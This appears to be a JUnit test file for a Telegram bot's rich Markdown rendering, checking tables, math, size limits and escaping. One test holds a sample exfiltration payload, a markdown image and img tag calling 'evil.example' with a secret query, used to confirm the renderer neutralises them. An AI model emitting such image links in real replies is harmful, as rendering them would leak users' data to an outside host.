package dev.parley.channels.telegram;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.parley.channels.chat.markup.MarkupPieces;
import dev.parley.channels.contract.Piece;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("B183")
class RichMarkupTest {
    private static final String TABLE = "| tide | time |\n|---|---:|\n| low | 04:10 |\n";

    private static Optional<String> rich(String text) {
        return RichMarkup.of(text, MarkupPieces.of(text, TelegramBot.MARKUP)).map(RichMarkup::markdown);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "The gates close at **ten**.",
                "- one\n- two\n\n1. three",
                "> a quote\n\n```java\nint a = b || c;\n```",
                "It costs $5, and $10 at night.",
                "[a link](https://example.org) and `code`",
                "a == b || c == d",
                "<b>not Markdown</b>"
            })
    void whatATextMessageShowsStaysOne(String text) {
        assertEquals(Optional.empty(), rich(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                TABLE,
                "# Tides\n\nThe gates close.",
                "- one\n  - two\n- three",
                "The area is $\\pi r^2$ of it.",
                "$$\na^2 + b^2 = c^2\n$$",
                "```math\nx^2\n```",
                "<details><summary>Why</summary>\n\nBecause.\n\n</details>\n"
            })
    void whatOnlyARichMessageShowsIsOneAndKeepsItsMarkdown(String text) {
        assertEquals(Optional.of(text), rich(text));
    }

    static Stream<String> tooMuch() {
        String columns = IntStream.range(0, 21).mapToObj(i -> "c" + i).collect(Collectors.joining("|", "|", "|\n"));
        return Stream.of(
                columns + columns.replaceAll("c\\d+", "-"),
                "# h\n\n" + "- a\n".repeat(501),
                "# h\n\n" + "x".repeat(32_768),
                "# h\n\n<details>\n\nnever closed");
    }

    @ParameterizedTest
    @MethodSource("tooMuch")
    void whatExceedsTheLimitsIsSentAsToday(String text) {
        assertEquals(Optional.empty(), rich(text));
    }

    @Test
    void aLongTextIsOneMessage() {
        String text = "The tide comes in, and the gates close. ".repeat(200).strip();
        assertEquals(Optional.of(text), rich(text));
    }

    @Test
    void nothingIsReadAsTelegramsOwnMarks() {
        String text = TABLE + "\nIf a || b == c, pay $5 or $7.\n";
        assertEquals(Optional.of(TABLE + "\nIf a \\|\\| b \\=\\= c, pay \\$5 or \\$7.\n"), rich(text));
    }

    @Test
    void imagesAndHtmlOfAModelAreNeitherFetchedNorButtons() {
        String text =
                "# h\n\n![chart](https://evil.example/?q=secret)\n\n<tg-button url=\"x\">go</tg-button> now<br>\n\n"
                        + "<img src=\"https://evil.example\">\n";
        assertEquals(
                Optional.of(
                        "# h\n\n[chart](https://evil.example/?q=secret)\n\n\\<tg-button url=\"x\">go\\</tg-button> now<br>\n\n"
                                + "\\<img src=\"https://evil.example\">\n"),
                rich(text));
    }

    @Test
    void theFallbackOfARichMessageIsTheFirstPieceOfToday() {
        Piece.Words words =
                RichMarkup.of(TABLE, MarkupPieces.of(TABLE, TelegramBot.MARKUP)).orElseThrow();
        assertTrue(RichMarkup.isRich(words));
        assertTrue(words.plain().contains("04:10"));
        assertTrue(MarkupPieces.of("<rich>", TelegramBot.MARKUP).stream()
                .noneMatch(piece -> piece instanceof Piece.Words text && RichMarkup.isRich(text)));
    }
}
